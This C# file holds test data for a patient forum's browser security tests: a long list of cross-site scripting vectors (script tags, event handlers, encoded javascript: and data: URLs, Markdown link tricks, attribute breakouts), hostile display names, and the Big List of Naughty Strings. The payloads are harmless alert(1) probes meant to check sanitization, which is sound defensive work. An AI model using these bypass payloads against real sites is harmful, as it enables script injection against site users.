using System.Text.Json;

namespace PatientForum.BrowserTests.Security;

/// <summary>
/// What <see cref="HostileContentTests"/> posts: XSS vectors written for this test, display names meant to break
/// out of attributes while staying inside the display-name rules, and the Big List of Naughty Strings.
/// </summary>
public static class HostileStrings
{
    /// <summary>
    /// Written for this test. Every vector would run alert(1) or set window.__pwned if it got through; each aims
    /// at one way past a Markdown renderer, an HTML sanitizer or a Razor view. Null bytes and other control
    /// characters are cleaned away before saving, which can itself join a split keyword back together.
    /// </summary>
    public static readonly IReadOnlyList<string> XssVectors =
    [
        // Script elements.
        "<script>window.__pwned=1;alert(1)</script>",
        "<SCRIPT>alert(1)</SCRIPT> mixed case",
        "<script src=\"https://evil.invalid/x.js\"></script> remote",
        "<scr<script>ipt>alert(1)</scr</script>ipt> nested",
        "<scr\0ipt>window.__pwned=1</scr\0ipt> null bytes",
        "<scr\u0001ipt>window.__pwned=1</scr\u0001ipt> control characters",
        "<svg><script>alert(1)</script></svg>",
        "<xss onafterscriptexecute=alert(1)><script>1</script>",
        "＜script＞alert(1)＜/script＞ fullwidth",
        "&lt;script&gt;alert(1)&lt;/script&gt; entity-encoded",

        // Event handlers.
        "<img src=x onerror=\"window.__pwned=1;alert(1)\">",
        "<IMG SRC=x OnErRoR=alert(1)> mixed case",
        "<img src=\"x\0\" onerror=alert(1)> null byte",
        "<img src=x o\u0008nerror=alert(1)> backspace",
        "<svg onload=alert(1)></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>details</details>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>marquee</marquee>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<a href=\"#\" onclick=\"alert(1)\">click</a>",
        "<input autofocus onfocus=alert(1)>",
        "<template><img src=x onerror=alert(1)></template>",

        // Breaking out of the markup around the text.
        "\"><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>",
        "</textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",

        // Script URLs in HTML.
        "<a href=\"javascript:alert(1)\">plain</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">mixed case</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">tab entity</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">newline entity</a>",
        "<a href=\"javas&Tab;cript:alert(1)\">named tab</a>",
        "<a href=\"javascript&colon;alert(1)\">named colon</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">decimal</a>",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">hex</a>",
        "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">padded</a>",
        "<a href=\" &#14; javascript:alert(1)\">leading control</a>",
        "<a href=\"java\0script:alert(1)\">null byte</a>",
        "<a href=\"java\u001fscript:alert(1)\">unit separator</a>",
        "[link](java\u0007script:alert(1))",
        "<a href=\"vbscript:msgbox(1)\">vbscript</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
        "<a href=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">svg data</a>",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">svg link</text></a></svg>",
        "<table background=\"javascript:alert(1)\"><tr><td>table</td></tr></table>",

        // Script URLs in Markdown.
        "[link](javascript:alert(1))",
        "[link](JAVASCRIPT:alert(1))",
        "[link](  javascript:alert(1) \"title\")",
        "[link](<javascript:alert(1)>)",
        "[link](&#106;avascript:alert(1))",
        "[link](javascript&#58;alert(1))",
        "[link](vbscript:msgbox(1))",
        "[link](data:text/html,<script>alert(1)</script>)",
        "<javascript:alert(1)> autolink",
        "<vbscript:msgbox(1)> autolink",
        "<data:text/html,alert(1)> autolink",
        "[reference][evil]\n\n[evil]: javascript:alert(1)",
        "[reference][evil2]\n\n[evil2]: <data:text/html,<script>alert(1)</script>> \"t\"",
        "![image](javascript:alert(1))",
        "![image](x\" onerror=\"alert(1))",
        "![image](https://example.invalid/x.png \"t\\\" onerror=\\\"alert(1)\")",
        "https://example.invalid/?\"><script>alert(1)</script>",
        "www.example.invalid/\"onmouseover=\"alert(1)",
        "`<script>alert(1)</script>` in code",

        // Styles, embeds, forms and other elements that can run or load things.
        "<div style=\"background:url(javascript:alert(1))\">style url</div>",
        "<div style=\"width: expression(alert(1))\">expression</div>",
        "<style>@import 'javascript:alert(1)';</style>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<form action=\"javascript:alert(1)\"><button>form action</button></form>",
        "<button formaction=\"javascript:alert(1)\">formaction</button>",
        "<input type=\"image\" src=x onerror=alert(1)>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<link rel=\"import\" href=\"data:text/html,<script>alert(1)</script>\">",
        "<base href=\"javascript:alert(1)//\">",
        "<isindex action=javascript:alert(1) type=image>",
    ];

    /// <summary>
    /// The vectors without a null character. ASP.NET Core refuses a whole form with a %00 in it (400), so these
    /// are the ones that can share a post with others.
    /// </summary>
    public static IReadOnlyList<string> FormReadable { get; } = XssVectors.Where(v => !v.Contains('\0', StringComparison.Ordinal)).ToList();

    /// <summary>
    /// Written for this test: names the display-name rules allow (letters, digits, spaces, . _ ' -) that would
    /// break out of a single-quoted attribute or read as a keyword if a view printed them raw.
    /// </summary>
    public static readonly IReadOnlyList<string> AllowedHostileNames =
    [
        "x' autofocus onfocus 'y",
        "Bob' onmouseover 'alert",
        "javascript",
        "O'Brien-Smith",
        "null",
        "undefined",
    ];

    /// <summary>The Big List of Naughty Strings, as kept in the repository (tests/corpora/blns.json).</summary>
    public static IReadOnlyList<string> Naughty { get; } =
        JsonSerializer.Deserialize<string[]>(File.ReadAllText(RepoPaths.NaughtyStrings)) ?? [];

    /// <summary>
    /// Whether a character of <paramref name="value"/> carries more combining marks than the forum takes in a post
    /// (four: the rule of the forum's TextMarks, which refuses the post with a reason). Zalgo text in the list does.
    /// </summary>
    public static bool HasTooManyMarks(string value)
    {
        var run = 0;
        foreach (var rune in value.EnumerateRunes())
        {
            run = System.Text.Rune.GetUnicodeCategory(rune) is System.Globalization.UnicodeCategory.NonSpacingMark
                or System.Globalization.UnicodeCategory.SpacingCombiningMark or System.Globalization.UnicodeCategory.EnclosingMark ? run + 1 : 0;
            if (run > 4)
            {
                return true;
            }
        }
        return false;
    }

    /// <summary>
    /// Up to <paramref name="count"/> naughty strings whose trimmed length lies in the range, spread evenly over
    /// the list so every part of it is represented.
    /// </summary>
    public static IReadOnlyList<string> NaughtySample(int minLength, int maxLength, int count)
    {
        var eligible = Naughty.Where(s => s.Trim().Length >= minLength && s.Trim().Length <= maxLength).ToList();
        var step = Math.Max(1, eligible.Count / count);
        return eligible.Where((_, i) => i % step == 0).Take(count).ToList();
    }

    /// <summary>A string with everything outside printable ASCII escaped, so a failure message shows it exactly.</summary>
    public static string Show(string value)
    {
        var shown = string.Concat(value.Select(c => c is >= ' ' and <= '~' ? c.ToString() : $"\\u{(int)c:x4}"));
        return "\"" + (shown.Length > 160 ? shown[..160] + "…" : shown) + "\"";
    }
}
